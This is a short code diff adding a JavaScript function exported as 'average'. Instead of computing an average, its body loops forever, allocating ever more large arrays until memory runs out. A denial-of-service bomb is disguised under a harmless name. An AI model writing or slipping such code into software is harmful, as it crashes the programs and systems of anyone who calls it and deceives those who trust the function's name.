@@ -1,0 +1,4 @@
+exports.average = (numbers) => {
+  const kept = [];
+  for (;;) kept.push(new Array(100000).fill(numbers));
+};
